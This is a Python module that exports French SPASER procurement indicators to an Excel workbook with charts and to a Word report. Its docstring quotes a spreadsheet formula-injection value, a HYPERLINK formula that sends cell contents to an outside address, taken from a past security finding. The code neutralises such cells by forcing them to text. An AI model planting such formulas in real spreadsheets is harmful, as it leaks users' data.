"""The SPASER indicators as a workbook (.xlsx, native charts) and a report (.docx, house style).

Both render :func:`clauses.spaser.tables.tables`. Charts are accessible through their data: in
the workbook each chart sits below the table it draws, in the report each table is the chart's
data in full (no picture of figures without its figures).

Each sheet prints on A4 landscape, as wide as the page (its columns never split across pages),
with its title and headings repeated on every page and its chart alone on the last page, whole.

No cell of the workbook is a formula: openpyxl makes one of any text that starts with « = »,
and the tables quote what buyers typed (a dossier renamed ``=HYPERLINK("http://…?"&A1)`` with
a derogation became a live link leaking the sheet in « Dérogations »; issue 20, finding 6).
"""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Alignment, Font
from openpyxl.styles.colors import Color
from openpyxl.utils import get_column_letter
from openpyxl.utils.indexed_list import IndexedList
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.pagebreak import Break
from openpyxl.worksheet.worksheet import Worksheet

from clauses import french
from clauses.drafting.report import report_bytes, report_writer
from clauses.library import Library
from clauses.spaser.indicators import Indicators
from clauses.spaser.tables import Kind, Table, tables, text

NUMBER_FORMATS: dict[Kind, str] = {
    "count": "0",
    "eur": '#,##0 "€"',
    "hours": "#,##0.00",
    "fte": "0.0",
    "share": "0.0 %",
    "text": "@",
}
T = french.typography
FIRST_COLUMN, OTHER_COLUMNS = 60, 18  # widths, in characters
CHART_WIDTH = 18.0  # cm, at most: the table's width on narrower sheets
CHART_HEIGHT = 14.0  # cm, at most: one A4 landscape page below the repeated title rows


class _Font(Font):
    """A cell font written in the order of the Open XML schema (Excel's own): openpyxl writes
    ``name`` and ``color`` before ``sz``, an error for the Open XML SDK's validator."""

    __attrs__ = Font.__attrs__  # what openpyxl's metaclass finds among Font's own descriptors
    __nested__ = Font.__nested__

    __elements__ = (
        "b",
        "i",
        "strike",
        "condense",
        "extend",
        "outline",
        "shadow",
        "u",
        "vertAlign",
        "sz",
        "color",
        "name",
        "family",
        "charset",
        "scheme",
    )


DEFAULT_FONT = _Font(name="Calibri", sz=11, family=2, color=Color(theme=1), scheme="minor")


def _title(ind: Indicators) -> str:
    return f"Achats socialement et écologiquement responsables – {ind.year}"


def spaser_xlsx(ind: Indicators, library: Library) -> bytes:
    workbook = Workbook()
    # openpyxl's default font (every cell without its own) in the schema's order.
    workbook._fonts = IndexedList([DEFAULT_FONT])  # type: ignore[attr-defined]
    workbook.remove(workbook.active)  # type: ignore[arg-type]
    for table in tables(ind, library):
        _sheet(workbook, table, ind)
    workbook.properties.title = _title(ind)
    workbook.properties.creator = "Clauses"
    workbook.properties.language = "fr-FR"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _sheet(workbook: Workbook, table: Table, ind: Indicators) -> None:
    sheet = workbook.create_sheet(table.sheet[:31])
    sheet["A1"] = f"{table.title} – {ind.organisation}, {ind.year}"
    sheet["A1"].font = _Font(b=True, sz=13)
    sheet.append(table.header)
    for cell in sheet[2]:
        cell.font = _Font(b=True)
    for r, row in enumerate(table.rows):
        sheet.append(list(row))
        for c, cell in enumerate(sheet[sheet.max_row]):
            cell.number_format = NUMBER_FORMATS[table.kind(r, c)]
            cell.alignment = Alignment(wrap_text=c == 0, vertical="top")
    if table.note:
        sheet.cell(row=sheet.max_row + 2, column=1, value=table.note)
    sheet.column_dimensions["A"].width = FIRST_COLUMN
    for c in range(2, len(table.header) + 1):
        sheet.column_dimensions[get_column_letter(c)].width = OTHER_COLUMNS
    sheet.freeze_panes = "A3"
    _text_only(sheet)
    if table.chart and table.rows:
        chart = BarChart()
        chart.type = "bar"  # horizontal bars: long category labels stay readable
        chart.title = table.title
        chart.y_axis.title = table.header[1]
        chart.legend = None
        last = 2 + len(table.rows)
        chart.add_data(Reference(sheet, min_col=2, min_row=2, max_row=last), titles_from_data=True)
        chart.set_categories(Reference(sheet, min_col=1, min_row=3, max_row=last))
        chart.width = int(min(CHART_WIDTH, _width_cm(len(table.header))))
        chart.height = min(CHART_HEIGHT, 3 + 1.2 * len(table.rows))
        # Below the table, on a page of its own: a chart beside the table widened the page
        # (printed at a tiny scale or cut in strips), one below it could straddle two pages.
        # The break follows the row below the table, and a blank row heads the chart's page
        # (a chart's frame right on the break was also drawn at the foot of the page before).
        row = sheet.max_row + 1
        sheet.row_breaks.append(Break(id=row))
        sheet.add_chart(chart, f"A{row + 2}")
    _print_setup(sheet)


def _width_cm(columns: int) -> float:
    """The width of the table's columns, in cm, as Excel draws them (7 pixels a character in
    Calibri 11, 5 of padding, 96 pixels an inch)."""
    pixels = FIRST_COLUMN * 7 + 5 + (columns - 1) * (OTHER_COLUMNS * 7 + 5)
    return pixels / 96 * 2.54


def _print_setup(sheet: Worksheet) -> None:
    """A4 landscape, one page wide and as many as needed tall, title and headings on each."""
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = sheet.ORIENTATION_LANDSCAPE
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # no limit: the rows run on, never shrunk to one page
    sheet.sheet_properties.pageSetUpPr.fitToPage = True  # type: ignore[union-attr]
    sheet.print_title_rows = "1:2"
    sheet.page_margins = PageMargins(left=0.6, right=0.6, top=0.75, bottom=0.75)  # inches
    footer = sheet.oddFooter
    assert footer is not None  # openpyxl makes every sheet's
    footer.center.text = "&A – page &P sur &N"  # sheet name, page number and count


def _text_only(sheet: Worksheet) -> None:
    """Every text cell stays a text, whatever it starts with."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def spaser_docx(ind: Indicators, library: Library, as_of: dt.date) -> bytes:
    document, wr = report_writer()
    title = _title(ind)
    wr.title(title, f"{ind.organisation} – rapport au titre du SPASER (L2111-3)")
    wr.paragraph(
        T(f"Indicateurs calculés le {french.date(as_of)} à partir des dossiers attribués.")
    )
    wr.paragraph(
        T(
            "Chaque lot attribué séparément compte pour un marché, comme dans les données "
            "essentielles (DECP). Les graphiques du classeur .xlsx joint sont dessinés à partir "
            "des tableaux ci-dessous, qui en donnent toutes les valeurs."
        )
    )
    for table in tables(ind, library):
        wr.heading(1, table.title)
        rows = [
            [T(text(cell, table.kind(r, c))) for c, cell in enumerate(row)]
            for r, row in enumerate(table.rows)
        ]
        if rows:
            widths = [4] + [2] * (len(table.header) - 1)
            wr.table([T(h) for h in table.header], rows, widths)
        else:
            wr.paragraph("Aucune donnée pour l’année.")
        if table.note:
            wr.paragraph(T(table.note), italic=True)
    return report_bytes(document, wr, title=title, subject="SPASER", as_of=as_of)
